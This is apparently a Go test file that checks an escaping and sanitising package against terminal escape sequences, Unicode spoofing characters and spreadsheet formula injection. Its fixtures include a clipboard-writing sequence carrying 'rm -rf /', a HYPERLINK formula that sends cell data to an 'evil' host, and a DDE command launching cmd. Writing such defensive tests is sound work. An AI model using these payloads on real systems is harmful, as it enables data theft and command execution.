package report

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// hostile are texts that try to take over whatever shows them, by what they try.
func hostile() map[string]string {
	return map[string]string{
		"clipboard (OSC 52)":   "\x1b]52;c;cm0gLXJmIC8=\x07",
		"title (OSC 0)":        "\x1b]0;owned\x1b\\",
		"colour (CSI)":         "\x1b[31mred\x1b[0m",
		"cursor up (CSI)":      "a\x1b[2Ab",
		"C1 CSI":               "\u009b31m",
		"C1 as a byte":         "\x9b31m",
		"bell":                 "\a\a",
		"backspace":            "good\b\b\b\bevil",
		"carriage return":      "good\revil",
		"new line":             "a\nverdict accepted",
		"delete":               "a\x7fb",
		"bidi override":        "user\u202etxt.exe",
		"bidi isolate":         "\u2066evil\u2069",
		"right-to-left mark":   "a\u200fb",
		"line separator":       "a\u2028b\u2029c",
		"byte order mark":      "\ufeffa",
		"zero width joiner":    "👩\u200d👩\u200d👧",
		"no-break space":       "a\u00a0b",
		"tag characters":       "a\U000e0041b",
		"not UTF-8":            "\xff\xfe\xc3(",
		"formula":              `=HYPERLINK("http://evil/?"&A1)`,
		"formula after a tab":  "\t=1+1",
		"formula, full width":  "＝1+1",
		"command (DDE)":        "@SUM(1+1)*cmd|' /C calc'!A0",
		"wide":                 "漢字かな交じり文",
		"combining characters": "e\u0301\u0301\u0301",
		"NUL":                  "a\x00b",
	}
}

func TestEscape(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"/chat?x=1 ~", "/chat?x=1 ~"},
		{"naïve – 漢字 …", "naïve – 漢字 …"},
		{"a\tb\r\nc", `a\tb\r\nc`},
		{"\x1b]52;c;eA==\a", `\x1b]52;c;eA==\x07`},
		{"\x00\x7f", `\x00\x7f`},
		{"\u009b31m", `\u009b31m`},
		{"\x9b31m", `\x9b31m`},
		{"\u202eabc", `\u202eabc`},
		{"👩\u200d👧", `👩\u200d👧`},
		{"\U000e0041", `\U000e0041`},
		{"a\u00a0b", `a\u00a0b`},
		{"\ufffd", "\ufffd"},
		{`C:\dir\x41`, `C:\dir\x41`},
	}
	for _, tt := range tests {
		if got := Escape(tt.in); got != tt.want {
			t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// drives returns the first character of s that would drive a terminal.
func drives(s string) (rune, bool) {
	for _, r := range s {
		if !unicode.IsPrint(r) {
			return r, true
		}
	}
	return 0, !utf8.ValidString(s)
}

func TestJSONString(t *testing.T) {
	for name, text := range hostile() {
		got := string(appendJSONString(nil, text))
		for _, r := range got {
			if r < ' ' || r == 0x7f || drivesDisplay(r) {
				t.Errorf("%s: %s holds %U", name, got, r)
			}
		}
		var back string
		if err := json.Unmarshal([]byte(got), &back); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if want := strings.ToValidUTF8(text, "\ufffd"); back != want && utf8.ValidString(text) {
			t.Errorf("%s: came back as %q, want %q", name, back, want)
		}
	}
	if got, want := string(appendJSONString(nil, `<a href="&">\`)), `"<a href=\"&\">\\"`; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

func FuzzEscape(f *testing.F) {
	for _, text := range hostile() {
		f.Add(text)
	}
	f.Add(strings.Repeat("12345678", 3) + "\x1b")
	f.Fuzz(func(t *testing.T, text string) {
		escaped := Escape(text)
		if r, bad := drives(escaped); bad {
			t.Errorf("Escape(%q) = %q holds %U", text, escaped, r)
		}
		if again := Escape(escaped); again != escaped {
			t.Errorf("Escape(%q) = %q, and again %q", text, escaped, again)
		}
		inJSON := appendJSONString(nil, text)
		var got, want string
		if err := json.Unmarshal(inJSON, &got); err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		std, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(std, &want); err != nil {
			t.Fatal(err)
		}
		if got != want {
			t.Errorf("%q came back as %q, want %q", text, got, want)
		}
		for _, r := range string(inJSON) {
			if r < ' ' || r == 0x7f || drivesDisplay(r) {
				t.Errorf("JSON of %q holds %U", text, r)
			}
		}
		if c := cell(text); c != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(c)[0]) {
			t.Errorf("cell(%q) = %q begins like a formula", text, c)
		}
		if s := cutMiddle(escaped, 10); Width(s) > 10 {
			t.Errorf("cutMiddle(%q, 10) = %q takes %d columns", escaped, s, Width(s))
		}
	})
}
